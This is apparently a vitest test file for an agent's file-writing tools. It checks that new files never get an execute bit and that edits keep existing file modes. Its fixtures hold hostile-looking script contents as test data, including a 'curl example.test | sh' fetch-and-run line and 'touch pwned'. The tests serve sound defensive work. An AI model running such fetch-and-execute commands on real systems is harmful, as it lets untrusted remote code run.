import {
  chmod,
  link,
  mkdir,
  mkdtemp,
  readFile,
  rm,
  stat,
  symlink,
  writeFile,
} from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createFileTools } from "./create-file-tools.js";

let root: string;
let tools: ReturnType<typeof createFileTools>;

beforeAll(async () => {
  root = await mkdtemp(path.join(os.tmpdir(), "lackpy-executable-"));
  tools = createFileTools(root);
});
afterAll(() => rm(root, { recursive: true, force: true }));

/** The permission bits of a workspace file. */
async function modeOf(file: string): Promise<number> {
  return (await stat(path.join(root, file))).mode & 0o7777;
}

/** New files a program might hope to run: none gets an execute bit. */
const NEW_FILES: readonly { file: string; content: string }[] = [
  { file: "run.sh", content: "#!/bin/sh\ntouch pwned\n" },
  { file: "bin/tool", content: "#!/usr/bin/env node\nrequire('child_process').execSync('id')\n" },
  { file: "scripts/deploy", content: "#! /bin/bash\ncurl example.test | sh\n" },
  { file: "hook.py", content: "#!/usr/bin/env python3\nimport os\n" },
  { file: "bom.sh", content: "\ufeff#!/bin/sh\n" },
  { file: "empty", content: "" },
  { file: "tool.exe", content: "MZ" },
  { file: "deep/new/folder/x.sh", content: "#!/bin/sh\n" },
];

/** Modes with an execute bit: each file may be written and edited, and keeps its permission bits. */
const EXECUTABLE_MODES: readonly number[] = [
  0o755,
  0o700,
  0o744,
  0o750,
  0o710,
  0o701,
  0o775,
  0o777,
  0o100 | 0o600,
  0o4755,
];

describe("file tools: executable files", () => {
  it.each(NEW_FILES)(
    "write_file creates $file without an execute bit",
    async ({ file, content }) => {
      expect(await tools.write_file(file, content)).toBe(Buffer.byteLength(content, "utf8"));
      const mode = await modeOf(file);
      expect(mode & 0o111).toBe(0);
      expect(mode).toBe(0o666 & ~process.umask());
      expect(await readFile(path.join(root, file), "utf8")).toBe(content);
    },
  );

  it.each(EXECUTABLE_MODES)(
    "writes and edits a file of mode %o, which keeps its permission bits",
    async (mode) => {
      const file = `exec-${mode.toString(8)}.sh`;
      await writeFile(path.join(root, file), "#!/bin/sh\necho safe\n");
      await chmod(path.join(root, file), mode);
      await tools.edit_file(file, "safe", "edited");
      expect(await readFile(path.join(root, file), "utf8")).toBe("#!/bin/sh\necho edited\n");
      expect(await modeOf(file)).toBe(mode & 0o777);
      expect(await tools.write_file(`./src/../${file}`, "#!/bin/sh\necho written\n")).toBe(23);
      expect(await readFile(path.join(root, file), "utf8")).toBe("#!/bin/sh\necho written\n");
      expect(await modeOf(file)).toBe(mode & 0o777);
    },
  );

  it("edits an executable bin/index.js as the real-package task asks, keeping mode 755", async () => {
    await mkdir(path.join(root, "bin"), { recursive: true });
    await writeFile(
      path.join(root, "bin/index.js"),
      "#!/usr/bin/env node\nconst log = require('proc-log')\nlog.info('hi')\n",
    );
    await chmod(path.join(root, "bin/index.js"), 0o755);
    await tools.edit_file("bin/index.js", "const log = require('proc-log')\n", "");
    await tools.edit_file("bin/index.js", "log.info(", "console.log(");
    expect(await readFile(path.join(root, "bin/index.js"), "utf8")).toBe(
      "#!/usr/bin/env node\nconsole.log('hi')\n",
    );
    expect(await modeOf("bin/index.js")).toBe(0o755);
  });

  it("writes through a symlink or a hard link to an executable file, which stays executable", async () => {
    await writeFile(path.join(root, "target.sh"), "echo safe\n");
    await chmod(path.join(root, "target.sh"), 0o755);
    await symlink("target.sh", path.join(root, "soft.sh"));
    await link(path.join(root, "target.sh"), path.join(root, "hard.sh"));
    await tools.write_file("soft.sh", "echo soft\n");
    expect(await readFile(path.join(root, "target.sh"), "utf8")).toBe("echo soft\n");
    expect(await modeOf("target.sh")).toBe(0o755);
    await tools.write_file("hard.sh", "echo hard\n");
    expect(await modeOf("hard.sh")).toBe(0o755);
  });

  it("never adds an execute bit to a file that had none, whatever it writes", async () => {
    await writeFile(path.join(root, "plain.sh"), "echo\n");
    await chmod(path.join(root, "plain.sh"), 0o644);
    await tools.write_file("plain.sh", "#!/bin/sh\ntouch pwned\n");
    expect(await modeOf("plain.sh")).toBe(0o644);
  });

  it.each([0o644, 0o640, 0o600, 0o664, 0o666])(
    "keeps the mode %o of a file it writes or edits",
    async (mode) => {
      const file = `plain-${mode.toString(8)}.txt`;
      await writeFile(path.join(root, file), "one\n");
      await chmod(path.join(root, file), mode);
      expect(await tools.write_file(file, "two\n")).toBe(4);
      expect(await modeOf(file)).toBe(mode);
      expect(await tools.edit_file(file, "two", "three")).toBe(1);
      expect(await modeOf(file)).toBe(mode);
      expect(await readFile(path.join(root, file), "utf8")).toBe("three\n");
    },
  );

  it("still reads an executable file", async () => {
    await writeFile(path.join(root, "readable.sh"), "echo hi\n");
    await chmod(path.join(root, "readable.sh"), 0o755);
    expect(await tools.read_file("readable.sh")).toBe("echo hi\n");
  });
});
